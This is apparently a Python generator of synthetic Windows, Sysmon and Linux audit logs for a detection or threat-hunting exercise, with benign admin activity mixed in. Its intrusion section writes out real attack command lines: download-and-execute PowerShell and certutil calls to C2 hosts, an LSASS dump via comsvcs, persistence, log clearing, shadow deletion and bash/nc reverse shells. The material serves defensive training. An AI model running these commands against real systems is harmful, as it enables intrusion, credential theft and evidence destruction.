               "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe\" SignatureUpdate -ScheduleJob -RestrictPrivileges",
               SYSTEM, "System")
    dns(mp, jitter(t, 1, 3), "wdcp.microsoft.com", dns_results("wdcp.microsoft.com"))
    netconn(mp, jitter(t, 2, 4), "20.73.130.25", 443)
    procaccess(defender, jitter(t, 10, 300), lsass, "0x1410",
               "C:\\Windows\\SYSTEM32\\ntdll.dll+9f4d4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\mpengine.dll+4e1a12")
    regevent(defender, jitter(t, 1, 20), "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated", "QWORD (0x01db3a4c-0x7e2f8800)")
    procaccess(wininit, at(8, rng.randrange(0, 59)), lsass, "0x1000",
               "C:\\Windows\\SYSTEM32\\ntdll.dll+9f4d4|C:\\Windows\\System32\\KERNELBASE.dll+27e9d|C:\\Windows\\system32\\wininit.exe+5c2b")
    procaccess(svc_netsvcs, at(9, rng.randrange(0, 59)), lsass, "0x1000",
               "C:\\Windows\\SYSTEM32\\ntdll.dll+9f4d4|C:\\Windows\\System32\\KERNELBASE.dll+27e9d|c:\\windows\\system32\\lsm.dll+10d6b|C:\\Windows\\System32\\RPCRT4.dll+4c6d3")
    # gpupdate + scheduled maintenance
    t = at(13, rng.randrange(0, 59))
    taskhost = spawn(svc_sched, t, "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe Install $(Arg0)", SYSTEM, "System")
    t = jitter(t, 60, 600)
    gpu = spawn(svc_sched, t, "C:\\Windows\\System32\\gpupdate.exe", "gpupdate.exe /target:computer", SYSTEM, "System")
    dns(gpu, jitter(t, 1, 2), DC[0], f"::ffff:{DC[1]};")
    netconn(gpu, jitter(t, 1, 2), DC[1], 389, DC[0])
    regevent(gpu, jitter(t, 2, 8), "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Group Policy\\State\\Machine\\Extension-List\\{00000000-0000-0000-0000-000000000000}\\EndTime", "QWORD (0x01db3a51-0x2c4e1f00)")
    # Backup (Veeam agent) in the evening
    t = at(17, rng.randrange(0, 40))
    tray = spawn(explorer, t - timedelta(hours=9), "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Tray.exe",
                 "\"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Tray.exe\" -NoControlPanel")
    imageload(veeam, t, "C:\\Windows\\System32\\vssapi.dll")
    dns(veeam, jitter(t, 1, 2), VEEAM[0], f"::ffff:{VEEAM[1]};")
    netconn(veeam, jitter(t, 1, 3), VEEAM[1], 10005, VEEAM[0])
    filecreate(veeam, jitter(t, 5, 30), "C:\\ProgramData\\Veeam\\Endpoint\\Backup Job\\Job.Backup Job.Backup.log")
    return dict(host=host, explorer=explorer, lsass=lsass, outlook=outlook, edge=edge, svc_sched=svc_sched,
                svc_dcom=svc_dcom, taskhost=taskhost, userinit=userinit, tray=tray)


# admin activity on WS0107 (adm.rmartin helps m.lefebvre): benign look-alikes
def admin_session(ctx):
    host = ctx["host"]
    explorer = ctx["explorer"]
    u = f"{DOMAIN}\\adm.rmartin"
    t = at(11, 12)
    cmd = spawn(explorer, t, "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\System32\\cmd.exe\" ", u, "High",
                cwd="C:\\Windows\\system32\\")
    t = jitter(t, 5, 30)
    spawn(cmd, t, "C:\\Windows\\System32\\whoami.exe", "whoami  /upn")
    t = jitter(t, 10, 40)
    spawn(cmd, t, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin  list shadows /for=C:")
    t = jitter(t, 10, 40)
    spawn(cmd, t, "C:\\Windows\\System32\\certutil.exe",
          "certutil  -hashfile \"\\\\MIN-FIN-FS02\\deploiement$\\Logiciels\\LibreOffice_24.8.3_Win_x86-64.msi\" SHA256")
    t = jitter(t, 10, 40)
    spawn(cmd, t, "C:\\Windows\\System32\\schtasks.exe", "schtasks  /query /tn \"\\Microsoft\\Windows\\WindowsUpdate\\Scheduled Start\" /fo LIST /v")
    t = jitter(t, 10, 40)
    spawn(cmd, t, "C:\\Windows\\System32\\net.exe", "net  localgroup \"Utilisateurs du Bureau à distance\"")
    t = jitter(t, 20, 60)
    ps = spawn(cmd, t, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
               "powershell.exe -NoProfile -Command \"Get-WindowsUpdateLog -LogPath C:\\Windows\\Temp\\WindowsUpdate.log\"")
    filecreate(ps, jitter(t, 10, 40), "C:\\Windows\\Temp\\WindowsUpdate.log")
    netconn(ps, jitter(t, 1, 5), WSUS[1], 8530, WSUS[0])
    t = jitter(t, 60, 120)
    spawn(cmd, t, "C:\\Windows\\System32\\schtasks.exe",
          "schtasks  /create /tn \"MINFIN\\Inventaire GLPI\" /tr \"\\\"C:\\Program Files\\GLPI-Agent\\glpi-agent.bat\\\"\" /sc daily /st 12:30 /ru SYSTEM /f")
    t = jitter(t, 30, 60)
    spawn(cmd, t, "C:\\Windows\\System32\\mstsc.exe", "mstsc.exe /v:MIN-FIN-RDS01")


# --------------------------------------------------------------------------- the intrusion
def intrusion(ctx):
    """MIN-FIN-WS0142, j.dupont: .lnk attachment -> mshta -> PowerShell -> tooling."""
    host = ctx["host"]
    explorer = ctx["explorer"]
    user = "j.dupont"
    u = f"{DOMAIN}\\{user}"
    t = at(14, 3, 12, 455)
    mshta = spawn(explorer, t, "C:\\Windows\\System32\\mshta.exe",
                  f"\"C:\\Windows\\System32\\mshta.exe\" https://{PHISH_DOMAIN}/facturation/Facture_2026-1187.hta",
                  cwd=f"C:\\Users\\{user}\\Downloads\\")
    dns(mshta, t + timedelta(milliseconds=310), PHISH_DOMAIN, f"::ffff:{C2_HTA_IP};")
    netconn(mshta, t + timedelta(milliseconds=520), C2_HTA_IP, 443, PHISH_DOMAIN)
    imageload(mshta, t + timedelta(milliseconds=140), "C:\\Windows\\System32\\mshtml.dll")
    t = t + timedelta(seconds=4, milliseconds=118)
    stage1 = ("$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');"
              f"IEX $c.DownloadString('https://{C2_DOMAIN}/s/stage2.ps1')")
    ps = spawn(mshta, t, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
               f"\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -enc {ps_enc(stage1)}")
    imageload(ps, t + timedelta(milliseconds=600), "C:\\Windows\\System32\\amsi.dll")
    dns(ps, t + timedelta(seconds=1, milliseconds=204), C2_DOMAIN, f"::ffff:{C2_IP};")
    netconn(ps, t + timedelta(seconds=1, milliseconds=388), C2_IP, 443, C2_DOMAIN)
    t = t + timedelta(minutes=2, seconds=41)
    spawn(ps, t, "C:\\Windows\\System32\\whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all")
    MAL["whoami_t"] = t
    t = t + timedelta(seconds=37)
    cu = spawn(ps, t, "C:\\Windows\\System32\\certutil.exe",
          f"\"C:\\Windows\\system32\\certutil.exe\" /urlcache /split /f http://{C2_IP}/tools/svc.dat C:\\Users\\Public\\Libraries\\svc.exe",
          cwd=f"C:\\Users\\{user}\\")
    netconn(cu, t + timedelta(milliseconds=431), C2_IP, 80)
    filecreate(cu, t + timedelta(seconds=2, milliseconds=77), "C:\\Users\\Public\\Libraries\\svc.exe")
    t = t + timedelta(minutes=1, seconds=5)
    stage3 = f"(New-Object Net.WebClient).DownloadString('https://{C2_DOMAIN}/s/inv.ps1') | IEX"
    b64 = base64.b64encode(stage3.encode()).decode()
    spawn(ps, t, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          f"\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command \"IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64}')))\"")
    t = t + timedelta(minutes=3, seconds=12)
    MAL["schtask_t"] = t + timedelta(milliseconds=206)
    spawn(ps, t, "C:\\Windows\\System32\\schtasks.exe",
          "\"C:\\Windows\\system32\\schtasks.exe\" /create /tn \"MicrosoftEdgeUpdateTaskCore\" /tr \"C:\\Users\\Public\\Libraries\\svc.exe\" /sc onlogon /rl highest /f")
    t = t + timedelta(seconds=22)
    reg = spawn(ps, t, "C:\\Windows\\System32\\reg.exe",
                "\"C:\\Windows\\system32\\reg.exe\" add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v EdgeUpdateCore /t REG_SZ /d \"C:\\Users\\Public\\Libraries\\svc.exe\" /f")
    regevent(reg, t + timedelta(milliseconds=48), f"HKU\\{usid(user)}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\EdgeUpdateCore",
             "C:\\Users\\Public\\Libraries\\svc.exe")
    # elevated (j.dupont is local admin on his workstation)
    t = t + timedelta(minutes=6, seconds=3)
    psh = spawn(ps, t, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -c \"Start-Sleep 1\"",
                integrity="High")
    t = t + timedelta(seconds=19)
    lsass = ctx["lsass"]
    rd = spawn(psh, t, "C:\\Windows\\System32\\rundll32.exe",
               f"\"C:\\Windows\\system32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} C:\\Users\\Public\\Libraries\\lsass.dmp full")
    imageload(rd, t + timedelta(milliseconds=35), "C:\\Windows\\System32\\comsvcs.dll")
    procaccess(rd, t + timedelta(milliseconds=96), lsass, "0x1fffff",
               "C:\\Windows\\SYSTEM32\\ntdll.dll+9f4d4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+3d5b2|C:\\Windows\\System32\\rundll32.exe+3c28")
    filecreate(rd, t + timedelta(milliseconds=140), "C:\\Users\\Public\\Libraries\\lsass.dmp")
    t = t + timedelta(minutes=2, seconds=8)
    net = spawn(psh, t, "C:\\Windows\\System32\\net.exe", "\"C:\\Windows\\system32\\net.exe\" user svc_maint Maint2026!x /add")
    spawn(net, t + timedelta(milliseconds=30), "C:\\Windows\\System32\\net1.exe", "C:\\Windows\\system32\\net1  user svc_maint Maint2026!x /add")
    MAL["user_add_t"] = t
    t = t + timedelta(seconds=9)
    net = spawn(psh, t, "C:\\Windows\\System32\\net.exe", "\"C:\\Windows\\system32\\net.exe\" localgroup Administrateurs svc_maint /add")
    MAL["group_add_t"] = t
    t = t + timedelta(minutes=1, seconds=44)
    spawn(psh, t, "C:\\Windows\\System32\\vssadmin.exe", "\"C:\\Windows\\system32\\vssadmin.exe\" delete shadows /all /quiet")
    MAL["vss_t"] = t
    t = t + timedelta(seconds=31)
    spawn(psh, t, "C:\\Windows\\System32\\wevtutil.exe", "\"C:\\Windows\\system32\\wevtutil.exe\" cl Security")
    MAL["clear_t"] = t


MAL = {}


# --------------------------------------------------------------------------- Security log
def logon_4624(host, t, login, ltype, ip, workstation="-", proc="-", auth="Negotiate", lproc="User32 ", text=False):
    lid = hex(rng.randrange(0x100000, 0x9FFFFFF))
    return emit(security_event(host, t, 4624, {
        "SubjectUserSid": "S-1-5-18" if ltype in (2, 7, 10, 11) else "S-1-0-0",
        "SubjectUserName": f"{host.name}$" if ltype in (2, 7, 10, 11) else "-",
        "SubjectDomainName": DOMAIN if ltype in (2, 7, 10, 11) else "-",
        "SubjectLogonId": "0x3e7" if ltype in (2, 7, 10, 11) else "0x0",
        "TargetUserSid": usid(login), "TargetUserName": login, "TargetDomainName": DOMAIN,
        "TargetLogonId": lid, "LogonType": ltype, "LogonProcessName": lproc,
        "AuthenticationPackageName": auth, "WorkstationName": workstation,
        "LogonGuid": "{" + guid() + "}" if auth == "Kerberos" else "{00000000-0000-0000-0000-000000000000}",
        "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": 0,
        "ProcessId": hex(rng.choice([0x2f4, 0x3a8])) if proc != "-" else "0x0",
        "ProcessName": proc, "IpAddress": ip, "IpPort": str(rng.randrange(49700, 65000)) if ip not in ("-", "127.0.0.1") else ("0" if ip == "127.0.0.1" else "-"),
        "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "%%1843" if ltype == 10 else "-",
        "RemoteCredentialGuard": "-",
        "TargetOutboundUserName": "-", "TargetOutboundDomainName": "-", "VirtualAccount": "%%1843",
        "TargetLinkedLogonId": "0x0", "ElevatedLogon": "%%1843",
    }, text))


def logon_4625(host, t, login, ltype, ip, workstation, status="0xc000006d", sub="0xc000006a", text=False):
    return emit(security_event(host, t, 4625, {
        "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
        "TargetUserSid": "S-1-0-0", "TargetUserName": login, "TargetDomainName": DOMAIN if "." in login else "",
        "Status": status, "FailureReason": "%%2313", "SubStatus": sub, "LogonType": ltype,
        "LogonProcessName": "NtLmSsp " if ltype == 3 else "User32 ", "AuthenticationPackageName": "NTLM" if ltype == 3 else "Negotiate",
        "WorkstationName": workstation, "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": 0,
        "ProcessId": "0x0" if ltype == 3 else "0x3a8",
        "ProcessName": "-" if ltype == 3 else "C:\\Windows\\System32\\svchost.exe",
        "IpAddress": ip, "IpPort": str(rng.randrange(49700, 65000)),
    }, text))


def proc_4688(host, t, login, new, cmd, parent, elevated=False, lid="0x3b5cb2"):
    return emit(security_event(host, t, 4688, {
        "SubjectUserSid": usid(login), "SubjectUserName": login, "SubjectDomainName": DOMAIN,
        "SubjectLogonId": lid, "NewProcessId": hex(rng.randrange(0x400, 0x7FFF) & ~3),
        "NewProcessName": new, "TokenElevationType": "%%1937" if elevated else "%%1938",
        "ProcessId": hex(rng.randrange(0x400, 0x7FFF) & ~3), "CommandLine": cmd,
        "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
        "ParentProcessName": parent, "MandatoryLabel": "S-1-16-12288" if elevated else "S-1-16-8192",
    }))


def task_xml(author, command, args=None, trigger="<LogonTrigger>\r\n      <Enabled>true</Enabled>\r\n    </LogonTrigger>", runlevel="HighestAvailable", uid=None):
    a = f"\r\n      <Arguments>{args}</Arguments>" if args else ""
    return ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n"
            f"  <RegistrationInfo>\r\n    <Date>2026-11-19T15:10:02</Date>\r\n    <Author>{author}</Author>\r\n  </RegistrationInfo>\r\n"
            f"  <Triggers>\r\n    {trigger}\r\n  </Triggers>\r\n"
            f"  <Principals>\r\n    <Principal id=\"Author\">\r\n      <UserId>{uid or author}</UserId>\r\n      <LogonType>InteractiveToken</LogonType>\r\n      <RunLevel>{runlevel}</RunLevel>\r\n    </Principal>\r\n  </Principals>\r\n"
            "  <Settings>\r\n    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>\r\n    <DisallowStartIfOnBatteries>true</DisallowStartIfOnBatteries>\r\n    <StopIfGoingOnBatteries>true</StopIfGoingOnBatteries>\r\n    <Enabled>true</Enabled>\r\n  </Settings>\r\n"
            f"  <Actions Context=\"Author\">\r\n    <Exec>\r\n      <Command>{command}</Command>{a}\r\n    </Exec>\r\n  </Actions>\r\n</Task>")


def task_4698(host, t, login, name, xml, lid):
    return emit(security_event(host, t, 4698, {
        "SubjectUserSid": usid(login) if login != "SYSTEM" else "S-1-5-18",
        "SubjectUserName": login if login != "SYSTEM" else f"{host.name}$",
        "SubjectDomainName": DOMAIN, "SubjectLogonId": lid, "TaskName": name, "TaskContent": xml,
        "ClientProcessStartKey": rng.randrange(10**15, 10**16), "ClientProcessId": rng.randrange(1000, 20000) & ~3,
        "ParentProcessId": rng.randrange(1000, 20000) & ~3, "RpcCallClientLocality": 0, "FQDN": host.fqdn,
    }))


def user_4720(host, t, subj, new_login, new_rid, lid, display="%%1793", domain=DOMAIN):
    return emit(security_event(host, t, 4720, {
        "TargetUserName": new_login, "TargetDomainName": domain,
        "TargetSid": f"{DOM_SID}-{new_rid}" if domain == DOMAIN else f"S-1-5-21-1170247312-2816035941-4017733618-{new_rid}",
        "SubjectUserSid": usid(subj), "SubjectUserName": subj, "SubjectDomainName": DOMAIN, "SubjectLogonId": lid,
        "PrivilegeList": "-", "SamAccountName": new_login, "DisplayName": display, "UserPrincipalName": "-" if domain != DOMAIN else f"{new_login}@{DNS_SUFFIX}",
        "HomeDirectory": "%%1793", "HomePath": "%%1793", "ScriptPath": "%%1793", "ProfilePath": "%%1793",
        "UserWorkstations": "%%1793", "PasswordLastSet": "%%1794", "AccountExpires": "%%1794", "PrimaryGroupId": "513",
        "AllowedToDelegateTo": "-", "OldUacValue": "0x0", "NewUacValue": "0x15",
        "UserAccountControl": "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084", "UserParameters": "%%1793",
        "SidHistory": "-", "LogonHours": "%%1797",
    }))


def group_4732(host, t, subj, member_sid, group, group_sid, lid, group_domain="Builtin"):
    return emit(security_event(host, t, 4732, {
        "MemberName": "-", "MemberSid": member_sid, "TargetUserName": group, "TargetDomainName": group_domain,
        "TargetSid": group_sid, "SubjectUserSid": usid(subj), "SubjectUserName": subj, "SubjectDomainName": DOMAIN,
        "SubjectLogonId": lid, "PrivilegeList": "-",
    }))


def security_day():
    dc, rds, ws42 = HOSTS["MIN-FIN-DC01"], HOSTS["MIN-FIN-RDS01"], HOSTS["MIN-FIN-WS0142"]
    # morning interactive logons on workstations + network logons on the DC / file server
    for name, (user, ip) in WORKSTATIONS.items():
        h = HOSTS[name]
        t = at(7, rng.randrange(20, 55))
        if rng.random() < 0.6:
            logon_4625(h, t - timedelta(seconds=rng.randrange(8, 30)), user, 2, "127.0.0.1", name, "0xc000006d", "0xc000006a", text=True)
        logon_4624(h, t, user, 2, "127.0.0.1", name, "C:\\Windows\\System32\\svchost.exe")
        logon_4624(h, jitter(t, 1, 3), user, 2, "127.0.0.1", name, "C:\\Windows\\System32\\svchost.exe")
        logon_4624(dc, jitter(t, 0, 2), user, 3, ip, "-", auth="Kerberos", lproc="Kerberos")
        logon_4624(dc, jitter(t, 2, 20), user, 3, ip, "-", auth="Kerberos", lproc="Kerberos")
        logon_4624(h, at(12, rng.randrange(30, 59)), user, 7, "127.0.0.1", name, "C:\\Windows\\System32\\svchost.exe")
    for k in range(22):
        user, ip = rng.choice(list(WORKSTATIONS.values()))
        logon_4624(dc, at(rng.randrange(8, 17), rng.randrange(0, 59)), user, 3, ip, "-", auth="Kerberos", lproc="Kerberos",
                   text=(k % 2 == 0))
    logon_4624(dc, at(2, 0, 4), "svc_veeam", 3, VEEAM[1], "-", auth="Kerberos", lproc="Kerberos")
    logon_4624(dc, at(17, 35, 10), "svc_veeam", 3, VEEAM[1], "-", auth="Kerberos", lproc="Kerberos")
    # remote desktop users on the RDS host, from the internal network
    for user, ip, hh in (("p.garnier", "10.20.14.151", 8), ("m.lefebvre", "10.20.14.107", 9), ("adm.rmartin", "10.20.14.107", 11)):
        t = at(hh, rng.randrange(0, 50))
        logon_4624(rds, t, user, 3, ip, "MIN-FIN-WS0107" if ip == "10.20.14.107" else "MIN-FIN-WS0151", auth="NTLM", lproc="NtLmSsp ")
        logon_4624(rds, jitter(t, 2, 5), user, 10, ip, "MIN-FIN-RDS01", "C:\\Windows\\System32\\svchost.exe")
    logon_4625(rds, at(9, 2, 44), "m.lefebre", 3, "10.20.14.107", "MIN-FIN-WS0107", "0xc000006d", "0xc0000064", text=True)
    # RDP brute force from the Internet, then a successful logon (p.garnier's password was reused)
    t = at(3, 41, 7)
    for login in ("administrateur", "admin", "Administrator", "p.garnier", "p.garnier", "scanner"):
        t = t + timedelta(seconds=rng.randrange(2, 9), milliseconds=rng.randrange(0, 999))
        logon_4625(rds, t, login, 3, RDP_ATTACKER_IP, "kali", "0xc000006d",
                   "0xc0000064" if login not in ("p.garnier",) else "0xc000006a", text=True)
    t = t + timedelta(seconds=47)
    logon_4624(rds, t, "p.garnier", 3, RDP_ATTACKER_IP, "kali", auth="NTLM", lproc="NtLmSsp ")
    MAL["rdp_logon"] = logon_4624(rds, t + timedelta(seconds=2, milliseconds=301), "p.garnier", 10, RDP_ATTACKER_IP,
                                  "MIN-FIN-RDS01", "C:\\Windows\\System32\\svchost.exe")
    # Process creation auditing (4688) on a few hosts
    lid42 = hex(LOGON_IDS.get(("MIN-FIN-WS0142", f"{DOMAIN}\\j.dupont"), 0x3b5cb2))
    ws07 = HOSTS["MIN-FIN-WS0107"]
    proc_4688(ws42, at(7, 52, 3), "j.dupont", "C:\\Windows\\System32\\cmd.exe",
              f"C:\\Windows\\system32\\cmd.exe /c \"\\\\{DNS_SUFFIX}\\NETLOGON\\connexion.bat\"", "C:\\Windows\\System32\\userinit.exe", lid=lid42)
    proc_4688(ws42, at(7, 52, 5), "j.dupont", "C:\\Windows\\System32\\net.exe",
              "net  use H: \\\\MIN-FIN-FS02\\home$\\j.dupont /persistent:no", "C:\\Windows\\System32\\cmd.exe", lid=lid42)
    proc_4688(ws07, at(11, 12, 40), "adm.rmartin", "C:\\Windows\\System32\\whoami.exe", "whoami  /upn",
              "C:\\Windows\\System32\\cmd.exe", True, "0x61a2f0")
    proc_4688(ws07, at(11, 13, 31), "adm.rmartin", "C:\\Windows\\System32\\vssadmin.exe", "vssadmin  list shadows /for=C:",
              "C:\\Windows\\System32\\cmd.exe", True, "0x61a2f0")
    proc_4688(ws07, at(11, 15, 2), "adm.rmartin", "C:\\Windows\\System32\\net.exe",
              "net  localgroup \"Utilisateurs du Bureau à distance\"", "C:\\Windows\\System32\\cmd.exe", True, "0x61a2f0")
    proc_4688(ws42, at(16, 2, 10), "j.dupont", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
              "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"S:\\Budget\\Suivi_credits_T4.xlsx\"",
              "C:\\Windows\\explorer.exe", lid=lid42)
    # the WS0142 intrusion as seen by the Security log
    proc_4688(ws42, MAL["whoami_t"] + timedelta(milliseconds=2), "j.dupont", "C:\\Windows\\System32\\whoami.exe",
              "\"C:\\Windows\\system32\\whoami.exe\" /all", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", lid=lid42)
    proc_4688(ws42, MAL["user_add_t"] + timedelta(milliseconds=3), "j.dupont", "C:\\Windows\\System32\\net.exe",
              "\"C:\\Windows\\system32\\net.exe\" user svc_maint Maint2026!x /add",
              "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", True, lid42)
    user_4720(ws42, MAL["user_add_t"] + timedelta(milliseconds=211), "j.dupont", "svc_maint", 1003, lid42, "svc_maint", domain="MIN-FIN-WS0142")
    group_4732(ws42, MAL["group_add_t"] + timedelta(milliseconds=180), "j.dupont",
               "S-1-5-21-1170247312-2816035941-4017733618-1003", "Administrateurs", "S-1-5-32-544", lid42)
    task_4698(ws42, MAL["schtask_t"], "j.dupont", "\\MicrosoftEdgeUpdateTaskCore",
              task_xml(f"{DOMAIN}\\j.dupont", "C:\\Users\\Public\\Libraries\\svc.exe"), lid42)
    proc_4688(ws42, MAL["vss_t"] + timedelta(milliseconds=2), "j.dupont", "C:\\Windows\\System32\\vssadmin.exe",
              "\"C:\\Windows\\system32\\vssadmin.exe\" delete shadows /all /quiet",
              "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", True, lid42)
    proc_4688(ws42, MAL["clear_t"] + timedelta(milliseconds=2), "j.dupont", "C:\\Windows\\System32\\wevtutil.exe",
              "\"C:\\Windows\\system32\\wevtutil.exe\" cl Security",
              "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", True, lid42)
    emit(log_cleared_event(ws42, MAL["clear_t"] + timedelta(milliseconds=260), "j.dupont", lid42))
    # IT account administration on the DC (benign 4720/4732) and benign scheduled tasks
    lid_adm = "0x7c31a9"
    logon_4624(dc, at(10, 2, 11), "adm.rmartin", 10, "10.20.14.107", "MIN-FIN-DC01", "C:\\Windows\\System32\\svchost.exe")
    user_4720(dc, at(10, 14, 55), "adm.rmartin", "l.petit", 1477, lid_adm, "Lucie Petit")
    group_4732(dc, at(10, 15, 40), "adm.rmartin", f"{DOM_SID}-1477", "GG_Finances_Budget", f"{DOM_SID}-2214", lid_adm, DOMAIN)
    group_4732(dc, at(10, 16, 3), "adm.rmartin", f"{DOM_SID}-1477", "Utilisateurs du Bureau à distance", "S-1-5-32-555", lid_adm)
    user_4720(dc, at(15, 41, 20), "adm.rmartin", "stg.durand", 1478, lid_adm, "Stagiaire Durand")
    task_4698(ws07, at(11, 16, 31), "adm.rmartin", "\\MINFIN\\Inventaire GLPI",
              task_xml("FINANCES\\adm.rmartin", "\"C:\\Program Files\\GLPI-Agent\\glpi-agent.bat\"",
                       trigger="<CalendarTrigger>\r\n      <StartBoundary>2026-11-19T12:30:00</StartBoundary>\r\n      <ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay>\r\n    </CalendarTrigger>",
                       uid="S-1-5-18"), "0x61a2f0")
    for name in ("MIN-FIN-WS0188", "MIN-FIN-LT0031"):
        task_4698(HOSTS[name], at(9, rng.randrange(0, 59)), "SYSTEM", "\\Adobe Acrobat Update Task",
                  task_xml("Adobe Systems Incorporated", "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe",
                           runlevel="LeastPrivilege", uid="S-1-5-18"), "0x3e7")


# --------------------------------------------------------------------------- Linux + AWS
def linux_cloud():
    out = []
    web, db = "min-fin-web01", "min-fin-db02"

    def syslog(t, host, prog, pid, msg, facility="auth", sev="info"):
        out.append({"_t": t, "timestamp": ts(t), "host": host, "facility": facility, "severity": sev,
                    "program": prog, "pid": pid, "message": msg})

    def audit(t, host, serial, rtype, **kw):
        rec = {"_t": t, "timestamp": ts(t), "node": host, "type": rtype,
               "msg": f"audit({int(t.timestamp())}.{t.microsecond // 1000:03d}:{serial})"}
        rec.update(kw)
        out.append(rec)

    fp = "SHA256:8vHq3mQ0xZ1k4Lr2tYp7wEo9cNfB6uJ5aGdS3hK1iTs"
    syslog(at(6, 58, 2), web, "sshd", 1843, f"Accepted publickey for deploy from 10.20.3.14 port 51522 ssh2: ED25519 {fp}")
    syslog(at(6, 58, 2), web, "sshd", 1843, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)")
    syslog(at(6, 58, 40), web, "sudo", 1902, "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx")
    audit(at(6, 58, 40), web, 88114, "EXECVE", argc=3, a0="systemctl", a1="reload", a2="nginx")
    audit(at(6, 58, 40), web, 88114, "SYSCALL", arch="c000003e", syscall=59, success="yes", exit=0, ppid=1902, pid=1905,
          auid=1001, uid=0, gid=0, euid=0, tty="pts0", ses=12, comm="systemctl", exe="/usr/bin/systemctl", key="exec")
    syslog(at(7, 0, 1), web, "CRON", 2011, "(root) CMD (/usr/local/bin/backup-nginx-logs.sh > /dev/null 2>&1)", facility="cron")
    syslog(at(7, 30, 1), db, "CRON", 3120, "(postgres) CMD (pg_dump -Fc finances > /var/backups/pg/finances_$(date +\\%F).dump)", facility="cron")
    audit(at(7, 30, 1), db, 40211, "EXECVE", argc=4, a0="pg_dump", a1="-Fc", a2="finances", a3="-f/var/backups/pg/finances_2026-11-19.dump")
    syslog(at(8, 12, 55), db, "sshd", 3301, "Failed password for invalid user oracle from 10.20.9.250 port 40112 ssh2")
    syslog(at(8, 12, 57), db, "sshd", 3301, "Connection closed by invalid user oracle 10.20.9.250 port 40112 [preauth]")
    syslog(at(9, 3, 12), web, "systemd", 1, "Started apt-daily-upgrade.service - Daily apt upgrade and clean activities.", facility="daemon")
    audit(at(9, 3, 14), web, 88201, "EXECVE", argc=4, a0="/usr/bin/python3", a1="/usr/bin/unattended-upgrade", a2="--verbose", a3="--dry-run")
    audit(at(10, 44, 8), web, 88342, "USER_LOGIN", pid=4411, uid=0, auid=1001, ses=14,
          msg_detail="op=login id=1001 exe=\"/usr/sbin/sshd\" hostname=10.20.3.14 addr=10.20.3.14 terminal=/dev/pts/1 res=success")
    audit(at(10, 45, 30), web, 88350, "EXECVE", argc=3, a0="tail", a1="-n200", a2="/var/log/nginx/error.log")
    audit(at(11, 20, 0), db, 40388, "EXECVE", argc=3, a0="psql", a1="-c", a2="VACUUM ANALYZE ecritures_comptables;")
    # web shell on the PHP front -> reverse shell (www-data, uid 33)
    t = at(15, 27, 41, 118)
    audit(t, web, 88791, "SYSCALL", arch="c000003e", syscall=59, success="yes", exit=0, ppid=2214, pid=30215,
          auid=4294967295, uid=33, gid=33, euid=33, tty="(none)", ses=4294967295, comm="sh", exe="/usr/bin/dash", key="exec")
    audit(t, web, 88791, "EXECVE", argc=3, a0="sh", a1="-c", a2=f"bash -c 'bash -i >& /dev/tcp/{LINUX_C2_IP}/4444 0>&1'")
    MAL["linux_rev1"] = out[-1]
    t = t + timedelta(minutes=4, seconds=2)
    audit(t, web, 88830, "EXECVE", argc=3, a0="sh", a1="-c",
          a2=f"rm -f /tmp/.x;mkfifo /tmp/.x;cat /tmp/.x|/bin/sh -i 2>&1|nc {LINUX_C2_IP} 4445 >/tmp/.x")
    MAL["linux_rev2"] = out[-1]
